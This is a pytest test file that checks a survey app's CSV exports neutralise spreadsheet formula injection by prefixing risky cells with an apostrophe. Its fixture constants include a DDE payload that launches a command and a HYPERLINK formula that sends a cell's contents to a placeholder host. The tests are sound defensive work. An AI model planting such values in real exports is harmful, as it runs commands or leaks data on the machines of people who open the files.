"""Roster values and comments that a spreadsheet would run reach every CSV export neutralised.

docs/exports.md: a cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a
leading ``'`` (OWASP); numbers stay numbers; ``analysis.read_bundle`` gives the text back as it
was typed. Run through ``copkit export`` on the database, as an evaluator would.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from flask import Flask
from sqlalchemy import select

from analysis.bundle import read_bundle
from analysis.csv_cells import FORMULA_TRIGGERS
from survey_app.cli import main
from survey_app.extensions import db
from survey_app.models import Comment, Intervention, Member
from tests.survey_app.conftest import make_test_app
from tests.survey_app.export_fixtures import MEMBERS, ExportSetup, build_export_study

ORGANISATION = "=1+1"
PROFESSION = "+cmd|' /C calc'!A0"
COMMENT = '=HYPERLINK("http://x/?"&A1,"Click")'
DESCRIPTION = "@SUM(A1:A9)"
TEAM_INTERVENTION_KIND = "-workshop"


@pytest.fixture
def hostile_app(migrated_database_url: str, tmp_path: Path) -> Iterator[tuple[Flask, ExportSetup]]:
    app = make_test_app(migrated_database_url, tmp_path)
    with app.app_context():
        setup = build_export_study(db.session)
        session = db.session
        aisha = session.scalar(select(Member).where(Member.email == MEMBERS["aisha"][1]))
        chen = session.scalar(select(Member).where(Member.email == MEMBERS["chen"][1]))
        assert aisha is not None and chen is not None
        aisha.organisation = ORGANISATION
        chen.profession = PROFESSION
        for comment in session.scalars(select(Comment)):
            comment.text = COMMENT
        for intervention in session.scalars(select(Intervention)):
            intervention.description = DESCRIPTION
            intervention.kind = TEAM_INTERVENTION_KIND
        session.commit()
    yield app, setup
    db.dispose(app)


def _export(app: Flask, fmt: str, out: Path) -> None:
    config = {
        "DATABASE_URL": app.config["DATABASE_URL"],
        "INSTANCE_PATH": app.instance_path,
        "TESTING": True,
    }
    result = CliRunner().invoke(
        main, ["export", "--format", fmt, "--out", str(out)], obj=config, catch_exceptions=False
    )
    assert result.exit_code == 0, result.output


def _csv_texts(path: Path) -> dict[str, str]:
    if path.suffix == ".zip":
        with zipfile.ZipFile(path) as archive:
            return {
                name: archive.read(name).decode("utf-8")
                for name in archive.namelist()
                if name.endswith(".csv")
            }
    if path.is_dir():
        return {p.name: p.read_bytes().decode("utf-8") for p in sorted(path.glob("*.csv"))}
    return {path.name: path.read_bytes().decode("utf-8")}


def _formula_cells(text: str) -> list[str]:
    found = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if not cell.startswith(FORMULA_TRIGGERS):
                continue
            try:
                float(cell)
            except ValueError:
                found.append(cell)
    return found


@pytest.mark.parametrize(
    ("fmt", "name"),
    [
        ("bundle", "bundle"),
        ("bundle", "bundle.zip"),
        ("long-csv", "long.csv"),
        ("wide-csv", "wide.csv"),
        ("codebook", "codebook.csv"),
    ],
)
def test_no_exported_csv_cell_is_a_formula(
    hostile_app: tuple[Flask, ExportSetup], tmp_path: Path, fmt: str, name: str
) -> None:
    app, _ = hostile_app
    out = tmp_path / name
    _export(app, fmt, out)
    texts = _csv_texts(out)
    assert texts
    for file, text in texts.items():
        assert _formula_cells(text) == [], file
    joined = "\n".join(texts.values())
    if fmt != "codebook":
        assert "'" + ORGANISATION in joined
        assert "'" + PROFESSION in joined


@pytest.mark.parametrize("fmt", ["long-csv", "wide-csv"])
def test_numbers_stay_numbers(
    hostile_app: tuple[Flask, ExportSetup], tmp_path: Path, fmt: str
) -> None:
    app, _ = hostile_app
    out = tmp_path / "data.csv"
    _export(app, fmt, out)
    table = pd.read_csv(out)
    assert pd.api.types.is_integer_dtype(table["wave"])
    item = "value" if fmt == "long-csv" else "me1"
    assert pd.api.types.is_float_dtype(table[item])
    assert table[item].dropna().between(1, 7).all()
    assert set(table["organisation"]) >= {"'" + ORGANISATION}


def test_the_bundle_reads_back_as_typed(
    hostile_app: tuple[Flask, ExportSetup], tmp_path: Path
) -> None:
    app, _ = hostile_app
    out = tmp_path / "bundle"
    _export(app, "bundle", out)
    bundle = read_bundle(out)
    assert ORGANISATION in set(bundle.roster["organisation"])
    assert PROFESSION in set(bundle.roster["profession"])
    assert set(bundle.comments["text"]) == {COMMENT}
    assert set(bundle.interventions["description"]) == {DESCRIPTION}
    assert set(bundle.interventions["kind"]) == {TEAM_INTERVENTION_KIND}
    answered = bundle.responses["value"].dropna()
    assert len(answered) > 0 and answered.between(1, 7).all()
